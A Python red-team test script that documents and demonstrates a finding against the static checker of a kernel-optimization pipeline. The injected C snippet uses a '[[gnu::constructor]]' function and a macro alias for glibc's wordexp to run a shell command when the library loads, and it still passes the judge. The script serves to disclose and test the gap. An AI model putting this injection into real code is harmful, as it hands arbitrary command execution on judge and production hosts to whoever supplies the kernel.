"""Finding 7: two holes in static.py's text rules let a kernel run a shell command at load time.

(a) Only GNU `__attribute__((...))` is vetted (_without_attributes); the C2x spelling
    `[[gnu::constructor]]`, which GCC 12 accepts in the build's default -std=gnu17, is not seen at
    all, so a constructor (banned: "runs at load") slips through and runs in the judge's child and
    in every production process that loads the library.
(b) _check_calls allows a call to any name `#define`d in the source, and an object-like macro's
    body is checked only against the BANNED deny-list. `#define AP_EXPAND wordexp` then
    `AP_EXPAND(...)` calls glibc's wordexp (implicitly declared: a warning, not an error, in gnu17),
    which performs shell command substitution: arbitrary command execution. The same works for any
    libc function not on the deny-list (fopen64, open64, unlinkat, symlink, killpg, chdir, setrlimit,
    execveat, free, ...).
The kernel's arithmetic is untouched, so the judge passes it.
Modification (rmsnorm): before the kernel function
    #define AP_EXPAND wordexp
    [[gnu::constructor]] static void ap_init(void) { char we[64]; AP_EXPAND("$(id > MARKER)", we, 0); }
(a harmless marker file here; any command would do).
"""
from _common import *
import os, subprocess, textwrap

MARKER = os.path.join(tempfile.gettempdir(), "redteam_marker.txt")
INJECT = ("\n#define AP_EXPAND wordexp\n"
          "[[gnu::constructor]] static void ap_init(void) {\n"
          f"  char we[64];\n  AP_EXPAND(\"$(echo ran shell command in pid $PPID: $(id -un) >> {MARKER})\", we, 0);\n"
          "}\n\nvoid k_")

if os.path.exists(MARKER):
    os.remove(MARKER)
for full in (False, True):
    spec, k, src = setup("rmsnorm", full=full)
    evil = sub(src, "\nvoid k_", INJECT)
    v, r, b = check_and_judge(spec, k, evil)
print("  marker after static check + build + judge:\n   ", open(MARKER).read().replace("\n", "\n    ") if os.path.exists(MARKER) else "none")

if rejected(b, r):
    raise SystemExit(0)
prod = textwrap.dedent(f"""
    import sys; sys.path.insert(0, {ROOT!r} + "/tests"); sys.path.insert(0, {ROOT!r})
    import numpy as np, mlx.core as mx, os
    from op_table import config_specs
    from autoperfect.pipeline import front
    from autoperfect.backends import cpu
    (k,) = [k for k in front(config_specs()["rmsnorm"]).kernels if k]
    print("  production process pid", os.getpid(), "loads the kernel")
    kern = cpu.Kernel(k, {b.library!r})
""")
p = subprocess.run([sys.executable, "-c", prod], capture_output=True, text=True)
print(p.stdout, p.stderr[-300:], end="")
print("  marker now:\n   ", open(MARKER).read().replace("\n", "\n    "))
